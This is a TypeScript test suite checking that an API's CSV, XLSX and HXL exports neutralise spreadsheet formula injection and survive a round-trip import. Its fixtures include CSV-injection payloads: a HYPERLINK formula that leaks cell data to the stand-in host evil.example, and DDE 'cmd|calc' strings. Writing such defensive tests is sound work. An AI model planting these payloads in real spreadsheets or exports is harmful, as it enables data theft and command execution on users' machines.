import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import type { FastifyInstance } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { DIALECTS, createTestDatabase, type TestDatabase } from '../support/databases.js';
import { appFor } from '../support/api-client.js';
import { buildFacility, userWithToken } from '../support/factories.js';

/** What a spreadsheet would run as a formula (OWASP CSV injection). */
const FORMULA_START = /^[=+\-@\t\r]/;
/** A plain decimal number is left as it is: it cannot be a formula (src/io/csv.ts). */
const PLAIN_NUMBER = /^-?\d+(\.\d+)?$/;

const NAMES = ['=HYPERLINK("http://evil.example/?x="&A1,"Open")', '+380441234567', '-foo', '@SUM(A1:A9)', '\tcmd|calc', "'=already quoted", "'s-Hertogenbosch clinic"];

/** Every cell of a CSV (after the BOM); a cell a spreadsheet would run fails the test by name. */
function formulaCells(csv: string): string[] {
  const rows = parse(csv, { bom: true, relax_column_count: true });
  return rows.flat().filter((cell) => FORMULA_START.test(cell) && !PLAIN_NUMBER.test(cell));
}

for (const dialect of DIALECTS) {
  describe(`CSV exports carry no formulas on ${dialect}`, () => {
    let testDb: TestDatabase;
    let app: FastifyInstance;
    let admin: { authorization: string };

    beforeAll(async () => {
      testDb = await createTestDatabase(dialect);
      app = await appFor(testDb);
      admin = (await userWithToken(testDb.database, 'admin')).headers;
    });
    afterAll(async () => {
      await app.close();
      await testDb.drop();
    });

    it('facilities: no cell begins with a formula character, and importing the export back gives the original names', async () => {
      for (const [i, name] of NAMES.entries()) {
        const res = await app.inject({ method: 'POST', url: '/api/v1/facilities', headers: admin, payload: buildFacility({ code: `FX-${i}`, nameUk: name, nameEn: `${name} (en)`, areaKatottg: 'UA05000000000010236' }) });
        expect(res.statusCode, res.body).toBe(201);
      }
      const exported = await app.inject({ url: '/api/v1/facilities/export?format=csv&area=UA-05', headers: admin });
      expect(exported.statusCode).toBe(200);
      expect(formulaCells(exported.body)).toEqual([]);
      expect(exported.body).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Open"")"`);

      // The same rows under new codes (the export's id/version columns are ignored by the import).
      const reimport = exported.body.replace(/FX-(\d)/g, 'FY-$1');
      const imported = await app.inject({ method: 'POST', url: '/api/v1/facilities/import', headers: { ...admin, 'content-type': 'text/csv' }, payload: reimport });
      expect(imported.statusCode, imported.body).toBe(200);
      expect(imported.json()).toMatchObject({ imported: NAMES.length });
      const rows = await testDb.database.db.selectFrom('facilities').select(['code', 'name_uk', 'name_en']).where('code', 'like', 'FY-%').orderBy('code').execute();
      expect(rows.map((r) => [r.name_uk, r.name_en])).toEqual(NAMES.map((n) => [n, `${n} (en)`]));
    });

    it('facilities XLSX: a formula-like name is a text cell holding the name unchanged, never a formula', async () => {
      for (const [i, name] of NAMES.entries()) {
        const res = await app.inject({ method: 'POST', url: '/api/v1/facilities', headers: admin, payload: buildFacility({ code: `XL-${i}`, nameUk: name, nameEn: `${name} (en)`, areaKatottg: 'UA05000000000010236' }) });
        expect(res.statusCode, res.body).toBe(201);
      }
      const exported = await app.inject({ url: '/api/v1/facilities/export?format=xlsx&area=UA-05', headers: admin });
      expect(exported.statusCode).toBe(200);
      const book = new ExcelJS.Workbook();
      // A copy of the body in its own ArrayBuffer: the type exceljs declares.
      await book.xlsx.load(new Uint8Array(exported.rawPayload).buffer);
      const sheet = book.worksheets[0];
      if (sheet === undefined) throw new Error('the export has no worksheet');
      const header = (sheet.getRow(1).values as ExcelJS.CellValue[]).slice(1);
      const column = (name: string) => header.indexOf(name) + 1;
      const byCode = new Map<string, ExcelJS.Row>();
      sheet.eachRow((row, n) => {
        if (n > 1) byCode.set(row.getCell(column('code')).text, row);
      });
      for (const [i, name] of NAMES.entries()) {
        const row = byCode.get(`XL-${i}`);
        expect(row, `XL-${i} is not in the export`).toBeDefined();
        for (const [col, expected] of [['name_uk', name], ['name_en', `${name} (en)`]] as const) {
          const cell = row?.getCell(column(col));
          expect({ type: cell?.type, value: cell?.value, formula: cell?.formula }, `XL-${i} column ${col}`).toEqual({ type: ExcelJS.ValueType.String, value: expected, formula: undefined });
        }
      }
    });

    it('HXL: organisation names and activity titles that look like formulas are neutralised, negative numbers stay numbers', async () => {
      const org = await app.inject({ method: 'POST', url: '/api/v1/organizations', headers: admin, payload: { nameUk: '=cmd|" /C calc"!A0', nameEn: '=cmd|" /C calc"!A0', type: 'ngo', iatiOrgId: 'XI-TEST-FORMULA' } });
      expect(org.statusCode, org.body).toBe(201);
      const orgId = org.json<{ id: string }>().id;
      const project = await app.inject({
        method: 'POST', url: '/api/v1/projects', headers: admin,
        payload: { reportingOrgId: orgId, localId: 'F-1', title: { en: '@SUM(1+1)*cmd' }, description: { en: 'x' }, status: '2', startDate: '2024-01-01', participants: [{ organizationId: orgId, role: 'funding' }], sectors: [{ vocabulary: '1', code: '12220', percentage: 100 }] },
      });
      expect(project.statusCode, project.body).toBe(201);
      const threeW = await app.inject({ url: '/api/v1/projects/export/hxl?dataset=3w' });
      expect(threeW.statusCode).toBe(200);
      expect(formulaCells(threeW.body)).toEqual([]);
      const cells = parse(threeW.body, { bom: true }).flat();
      expect(cells).toContain(`'=cmd|" /C calc"!A0`);
      expect(cells).toContain("'@SUM(1+1)*cmd");
    });
  });
}
